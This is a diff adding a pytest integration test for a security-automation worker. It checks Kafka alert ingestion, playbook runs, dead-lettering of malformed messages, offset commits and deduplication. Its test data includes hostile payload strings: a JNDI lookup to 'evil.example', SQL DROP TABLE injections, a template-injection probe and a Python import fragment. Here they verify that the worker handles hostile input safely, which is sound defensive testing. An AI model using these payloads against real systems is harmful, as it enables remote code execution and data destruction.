@@ -1,0 +1,250 @@
+"""The worker on a real Kafka-protocol broker (tansu): alerts become one run per matching
+playbook, every bad message is dead-lettered byte for byte with its reason while good ones keep
+flowing, offsets are committed once outcomes are durable, trace context comes from the headers,
+and a redelivered message starts no second run."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import textwrap
+import uuid
+from pathlib import Path
+from typing import Any
+
+import pytest
+from aiokafka import AIOKafkaConsumer, AIOKafkaProducer  # type: ignore[import-untyped]
+from aiokafka.structs import TopicPartition  # type: ignore[import-untyped]
+
+from soar.config import IngestSettings, KafkaSettings
+from soar.connectors import Registry
+from soar.connectors.core import core
+from soar.engine import Engine
+from soar.ingest.dead_letters import ENVELOPE_HEADER
+from soar.ingest.worker import Worker
+from soar.models.audit import AuditFilter
+from soar.playbook.validate import LoadedPlaybook, validate_text
+from soar.store import RunFilter, SqliteStore
+from tests.kafka_broker import KafkaBroker
+
+pytestmark = [pytest.mark.kafka, pytest.mark.slow]
+
+PLAYBOOKS = [
+    """\
+    id: note-every-alert
+    name: Note every alert
+    trigger: {match: 'true'}
+    steps:
+      - {id: note, action: core.log, with: {message: "{{ alert.title }}"}}
+    """,
+    """\
+    id: high-only
+    name: Only high alerts
+    trigger: {match: 'alert.severity == "high"'}
+    steps:
+      - {id: mark, action: core.noop}
+    """,
+]
+TRACE_ID = "4bf92f3577b34da6a3ce929d0e0e4736"
+TRACEPARENT = f"00-{TRACE_ID}-00f067aa0ba902b7-01"
+MAX_BYTES = 65_536
+TIME = "2026-11-29T10:00:00Z"
+
+
+def playbooks() -> tuple[Registry, list[LoadedPlaybook]]:
+    registry = Registry.of([core])
+    loaded = []
+    for text in PLAYBOOKS:
+        result = validate_text(textwrap.dedent(text), file="p.yaml", registry=registry)
+        assert result.loaded is not None, [str(d) for d in result.diagnostics]
+        loaded.append(result.loaded)
+    return registry, loaded
+
+
+def good(n: int, severity: str = "medium") -> bytes:
+    return json.dumps(
+        {"title": f"alert {n}", "severity": severity, "id": f"a-{n}", "time": TIME}
+    ).encode()
+
+
+BAD: dict[str, bytes] = {
+    "not_json": b"this is not json {",
+    "not_utf8": b'{"title": "\xff\xfe bad bytes", "severity": "high"}',
+    "too_large": json.dumps({"title": "x" * (MAX_BYTES + 10), "severity": "low"}).encode(),
+    "too_deep": b"[" * 10_000 + b"]" * 10_000,
+    "wrong_types": json.dumps({"title": 5, "severity": ["high"], "time": TIME}).encode(),
+    "injection": json.dumps(
+        {"title": "x", "severity": "${jndi:ldap://evil.example/a}", "time": "'; DROP TABLE x;--"}
+    ).encode(),
+    "not_an_object": b"42",
+    "empty": b"",
+}
+# an attacker's text in a valid alert is data: it runs, and is kept verbatim
+HOSTILE_TITLE = "{{ 7*7 }} ${jndi:ldap://evil.example/a} __import__('os') '; DROP TABLE runs;--"
+
+
+async def produce(bootstrap: str, topic: str, messages: list[tuple[bytes, list[Any]]]) -> None:
+    producer = AIOKafkaProducer(bootstrap_servers=bootstrap, acks="all")
+    await producer.start()
+    try:
+        for value, headers in messages:
+            await producer.send_and_wait(topic, value=value, key=b"k", headers=headers)
+    finally:
+        await producer.stop()
+
+
+async def read_all(bootstrap: str, topic: str, count: int) -> list[Any]:
+    consumer = AIOKafkaConsumer(
+        topic, bootstrap_servers=bootstrap, auto_offset_reset="earliest", enable_auto_commit=False
+    )
+    await consumer.start()
+    records: list[Any] = []
+    try:
+        async with asyncio.timeout(30):
+            while len(records) < count:
+                batches = await consumer.getmany(timeout_ms=200)
+                for batch in batches.values():
+                    records.extend(batch)
+    finally:
+        await consumer.stop()
+    return records
+
+
+async def run_worker_until(engine: Engine, kafka: KafkaSettings, done: Any) -> Worker:
+    worker = Worker(engine, kafka, IngestSettings(max_message_bytes=MAX_BYTES))
+    stop = asyncio.Event()
+    task = asyncio.create_task(worker.run(stop))
+    try:
+        async with asyncio.timeout(60):
+            while not await done(worker):
+                assert not task.done(), task.exception()
+                await asyncio.sleep(0.1)
+    finally:
+        stop.set()
+        await task
+    return worker
+
+
+async def test_alerts_become_runs_and_bad_messages_dead_letters(
+    kafka_broker: KafkaBroker, tmp_path: Path
+) -> None:
+    bootstrap = kafka_broker.bootstrap
+    name = uuid.uuid4().hex[:8]
+    topic, dead = f"alerts-{name}", f"dead-{name}"
+    kafka = KafkaSettings(
+        bootstrap_servers=bootstrap,
+        topics=[topic],
+        group=f"soar-{name}",
+        dead_letter_topic=dead,
+        commit_interval=0.1,
+        session_timeout_ms=6000,
+        heartbeat_interval_ms=500,
+    )
+    messages: list[tuple[bytes, list[Any]]] = []
+    for n in range(30):
+        messages.append((good(n, "high" if n % 3 == 0 else "medium"), []))
+        if n < len(BAD):
+            messages.append((list(BAD.values())[n], [("origin", b"test")]))
+    messages.append((good(100), [("traceparent", TRACEPARENT.encode())]))
+    hostile = json.dumps(
+        {"title": HOSTILE_TITLE, "severity": "low", "id": "hostile", "time": TIME}
+    ).encode()
+    messages.append((hostile, []))
+    await produce(bootstrap, topic, messages)
+    good_count = 32
+    high = len([n for n in range(30) if n % 3 == 0])
+
+    registry, loaded = playbooks()
+    store = await SqliteStore.open(tmp_path / "soar.db")
+    try:
+        engine = Engine(store, registry, loaded)
+
+        async def all_taken(worker: Worker) -> bool:
+            return worker.consumed + worker.dead_lettered >= len(messages)
+
+        worker = await run_worker_until(engine, kafka, all_taken)
+        await engine.wait_idle()
+        runs = await store.list_runs(RunFilter(limit=1000))
+        # one run per matching playbook per alert, each finished
+        by_playbook = {
+            p: [r for r in runs if r.playbook_id == p] for p in ("note-every-alert", "high-only")
+        }
+        assert len(by_playbook["note-every-alert"]) == good_count
+        assert len(by_playbook["high-only"]) == high
+        assert {r.status.value for r in runs} == {"completed"}
+        titles = {r.alert["title"] for r in runs if isinstance(r.alert, dict)}
+        assert HOSTILE_TITLE in titles
+        traced = [r for r in runs if isinstance(r.alert, dict) and r.alert.get("id") == "a-100"]
+        assert [r.trace[3:35] if r.trace else None for r in traced] == [TRACE_ID]
+        # every bad message, byte for byte, with its reason and where it came from
+        letters = await read_all(bootstrap, dead, len(BAD))
+        assert sorted(r.value for r in letters) == sorted(BAD.values())
+        codes = {}
+        for letter in letters:
+            headers = dict(letter.headers)
+            envelope = json.loads(headers[ENVELOPE_HEADER])
+            assert envelope["source"]["topic"] == topic
+            assert headers["soar-error-code"].decode() == envelope["error"]["code"]
+            assert headers["origin"] == b"test"  # the message's own headers ride along
+            codes[letter.value] = envelope["error"]["code"]
+        assert codes[BAD["not_json"]] == "not_json"
+        assert codes[BAD["not_utf8"]] == "not_utf8"
+        assert codes[BAD["too_large"]] == "too_large"
+        assert codes[BAD["too_deep"]] == "too_deep"
+        assert codes[BAD["not_an_object"]] == "not_an_object"
+        assert codes[BAD["wrong_types"]] in {"invalid_field", "unknown_format"}
+        assert codes[BAD["injection"]] in {"invalid_field", "unknown_format"}
+        assert worker.dead_lettered == len(BAD)
+        rejected = await store.query_audit(AuditFilter(kind="alert.rejected", limit=100))
+        assert len(rejected) == len(BAD)
+        accepted = await store.query_audit(AuditFilter(kind="alert.accepted", limit=100))
+        assert len(accepted) == good_count
+        # every offset is committed: a restart reads nothing again
+        committed = await committed_offsets(bootstrap, kafka.group, topic)
+        ends = await end_offsets(bootstrap, topic)
+        assert committed == ends
+
+        # delivered again (to a new group, which reads from the start, as a worker does after
+        # a crash before its commit): the runs are found, none is started twice
+        again_kafka = kafka.model_copy(update={"group": f"soar-{name}-again"})
+        second = await run_worker_until(engine, again_kafka, all_taken)
+        await engine.wait_idle()
+        assert second.consumed == good_count
+        again = await store.list_runs(RunFilter(limit=1000))
+        assert sorted(r.id for r in again) == sorted(r.id for r in runs)
+        await engine.stop()
+    finally:
+        await store.close()
+
+
+async def _group_consumer(bootstrap: str, group: str) -> Any:
+    consumer = AIOKafkaConsumer(
+        bootstrap_servers=bootstrap, group_id=group, enable_auto_commit=False
+    )
+    await consumer.start()
+    return consumer
+
+
+async def end_offsets(bootstrap: str, topic: str) -> dict[int, int]:
+    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap)
+    await consumer.start()
+    try:
+        partitions = [TopicPartition(topic, p) for p in consumer.partitions_for_topic(topic) or ()]
+        ends = await consumer.end_offsets(partitions)
+    finally:
+        await consumer.stop()
+    return {tp.partition: offset for tp, offset in ends.items() if offset > 0}
+
+
+async def committed_offsets(bootstrap: str, group: str, topic: str) -> dict[int, int]:
+    consumer = await _group_consumer(bootstrap, group)
+    try:
+        await consumer._client.force_metadata_update()
+        found = {}
+        for partition in consumer.partitions_for_topic(topic) or ():
+            offset = await consumer.committed(TopicPartition(topic, partition))
+            if offset:
+                found[partition] = offset
+    finally:
+        await consumer.stop()
+    return found
